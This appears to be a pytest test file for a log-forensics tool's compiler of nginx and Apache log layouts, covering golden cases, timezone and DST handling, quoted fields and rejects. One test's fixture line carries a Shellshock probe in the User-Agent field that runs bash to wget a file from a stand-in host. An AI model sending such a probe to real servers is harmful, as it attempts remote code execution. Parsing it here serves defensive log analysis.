"""The layout compiler: pasted nginx log_format / Apache LogFormat lines → one parser.

Golden cases live in tests/golden/layouts.json: a layout, a line it writes, and every
non-NULL event column expected (checked by hand against the line).
"""

from __future__ import annotations

import json
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from forensics import formats
from forensics.errors import LogFormatError, TimezoneRequiredError
from forensics.formats.base import ParseOptions
from forensics.formats.layout import compile_layout
from forensics.store.db import connect
from tests.formathelpers import GOLDEN, event_values, ingest_lines, parse_lines, parse_one, utc

GOLD = json.loads((GOLDEN / "layouts.json").read_text(encoding="utf-8"))


def layout_text(case: dict[str, Any]) -> str:
    lay = case["layout"]
    return "\n".join(lay) if isinstance(lay, list) else str(lay)


def expected_values(expected: dict[str, Any]) -> dict[str, Any]:
    out = dict(expected)
    out["ts"] = datetime.fromisoformat(expected["ts"])
    if "duration_ms" in out:
        out["duration_ms"] = pytest.approx(out["duration_ms"])
    return out


def test_golden_file_covers_what_users_paste() -> None:
    text = " ".join(layout_text(c) for c in GOLD["cases"])
    for needle in [
        "log_format combined",
        "log_format  main",
        "${",
        "$request_time",
        "$upstream_response_time",
        "$http_x_request_id",
        "$host",
        "$time_iso8601",
        "$msec",
        'LogFormat "%h %l %u %t \\"%r\\" %>s %b" common',
        "%{Referer}i",
        "%D",
        "%T",
        "%{ms}T",
        "%v:%p",
        "%>s",
        "%400,501{User-agent}i",
        "%{%Y-%m-%d %H:%M:%S}t",
        "%{sec}t",
        "%{msec}t",
    ]:
        assert needle in text, needle
    assert len(GOLD["cases"]) >= 15 and len(GOLD["errors"]) >= 5


@pytest.mark.parametrize("case", GOLD["cases"], ids=[c["name"] for c in GOLD["cases"]])
def test_golden_layout(case: dict[str, Any]) -> None:
    row = parse_one(layout_text(case), case["line"], tz=case.get("tz"))
    assert row["ts"].tzinfo is not None
    assert event_values(row) == expected_values(case["expected"])


@pytest.mark.parametrize("case", GOLD["cases"], ids=[c["name"] for c in GOLD["cases"]])
def test_golden_layout_recognises_its_line_and_not_others(case: dict[str, Any]) -> None:
    fmt = formats.custom_format(layout_text(case))
    con = connect(":memory:")
    others = ["", "garbage", case["line"][: len(case["line"]) // 3]]
    assert fmt.matches(con, [case["line"], *others]) == [True, False, False, False]


@pytest.mark.parametrize("case", GOLD["errors"], ids=[c["name"] for c in GOLD["errors"]])
def test_golden_layout_errors(case: dict[str, Any]) -> None:
    with pytest.raises(LogFormatError) as err:
        formats.custom_format(layout_text(case))
    for part in case["message"]:
        assert part in str(err.value)


def test_naive_strftime_time_needs_tz() -> None:
    fmt = formats.custom_format('%h %{%Y-%m-%d %H:%M:%S}t "%r" %>s %b')
    with pytest.raises(TimezoneRequiredError, match="--tz"):
        fmt.bind(['192.0.2.1 2024-07-01 12:00:00 "GET /a HTTP/1.1" 200 10'], ParseOptions())


def test_naive_time_at_ingest_without_tz_is_an_error_naming_tz(tmp_path: Path) -> None:
    line = '192.0.2.1 2024-07-01 12:00:00 "GET /a HTTP/1.1" 200 10'
    layout = '%h %{%Y-%m-%d %H:%M:%S}t "%r" %>s %b'
    try:
        case, report = ingest_lines(tmp_path, "local.log", [line], log_format=layout)
    except TimezoneRequiredError as exc:  # raising at once is as good as recording it
        assert "--tz" in str(exc)
        return
    (result,) = report.results
    assert result.status == "error" and result.message and "--tz" in result.message
    assert case.sql("select count(*) n from events")["n"][0] == 0


def test_naive_time_at_ingest_with_tz_across_dst(tmp_path: Path) -> None:
    lines = [
        '192.0.2.1 2024-03-31 00:30:00 "GET /before HTTP/1.1" 200 10',  # GMT
        '192.0.2.1 2024-03-31 02:30:00 "GET /after HTTP/1.1" 200 10',  # BST from 01:00 UTC
    ]
    case, report = ingest_lines(
        tmp_path, "local.log", lines, log_format='%h %{%Y-%m-%d %H:%M:%S}t "%r" %>s %b', tz="Europe/London"
    )
    assert report.results[0].status == "ingested"
    got = case.con.execute("select path, ts, ts_offset_min from events order by line_no").fetchall()
    assert got == [("/before", utc(2024, 3, 31, 0, 30), 0), ("/after", utc(2024, 3, 31, 1, 30), 60)]


def test_custom_layout_end_to_end_keeps_extra_trailing_fields_out(tmp_path: Path) -> None:
    layout = "log_format timed '$remote_addr [$time_local] \"$request\" $status $request_time';"
    lines = [
        '203.0.113.1 [12/Mar/2024:10:00:00 +0000] "GET /a HTTP/1.1" 200 0.002',
        "not a line of this layout",
        '203.0.113.2 [12/Mar/2024:10:00:01 +0000] "GET /b HTTP/1.1" 404 -',
    ]
    case, report = ingest_lines(tmp_path, "timed.log", lines, log_format=layout)
    (result,) = report.results
    assert (result.status, result.format, result.lines, result.events, result.rejects) == (
        "ingested",
        "custom",
        3,
        2,
        1,
    )
    got = case.con.execute("select line_no, client_ip, status, duration_ms from events order by 1").fetchall()
    assert got == [(1, "203.0.113.1", 200, pytest.approx(2.0)), (3, "203.0.113.2", 404, None)]
    rej = case.con.execute("select line_no, line, reason from rejects").fetchall()
    assert rej == [(2, "not a line of this layout", "not a custom line")]


def test_quoted_fields_tolerate_quotes_inside_and_a_cut_last_field() -> None:
    layout = 'log_format q \'[$time_local] "$request" $status "$http_referer" "$http_user_agent"\';'
    rows = parse_lines(
        layout,
        [
            '[12/Mar/2024:10:00:00 +0000] "GET /a"b" HTTP/1.1" 200 "-" "UA \\"quoted\\" x"',
            '[12/Mar/2024:10:00:00 +0000] "GET /c HTTP/1.1" 200 "http://r/" "Mozilla/5.0 (trunc',
        ],
    )
    assert [(r["path"], r["protocol"], r["user_agent"], r["referer"]) for r in rows] == [
        ('/a"b"', "HTTP/1.1", 'UA \\"quoted\\" x', None),
        ("/c", "HTTP/1.1", "Mozilla/5.0 (trunc", "http://r/"),
    ]


def test_last_quoted_field_keeps_bare_quotes() -> None:
    # loggers that do not escape quotes (e.g. Node's morgan) and a shellshock probe
    layout = '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"'
    line = (
        '198.51.100.66 - - [12/Mar/2024:10:00:00 +0000] "GET /cgi-bin/status HTTP/1.1" 404 12 "-" '
        '"() { :; }; /bin/bash -c "wget http://203.0.113.99/x""'
    )
    row = parse_one(layout, line)
    assert row["user_agent"] == '() { :; }; /bin/bash -c "wget http://203.0.113.99/x"'
    assert (row["path"], row["status"], row["referer"]) == ("/cgi-bin/status", 404, None)


def test_compiled_regex_keeps_one_group_per_field() -> None:
    layout = compile_layout(
        r'LogFormat "%v:%p %h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" v'
    )
    names = [f.name for f in layout.fields]
    assert names == [
        "%v",
        "server_port",
        "%h",
        "ident",
        "%u",
        "%t",
        "%r",
        "%>s",  # named as written: %s (the original status) is another directive
        "%O",
        "%{Referer}i",
        "%{User-Agent}i",
    ]
    assert layout.dialect == "apache"
    assert layout.regex.count("(") - layout.regex.count("(?:") - layout.regex.count("\\(") == len(names)


def test_repeated_unknown_fields_keep_every_value() -> None:
    row = parse_one(
        '%h %t "%r" %>s %{X-Trace}i %{X-Trace}i',
        '192.0.2.1 [12/Mar/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 abc def',
    )
    assert row["extra"] == {"{X-Trace}i": "abc", "{X-Trace}i#2": "def"}
    assert row["ts"] == utc(2024, 3, 12, 10, 0, 0)
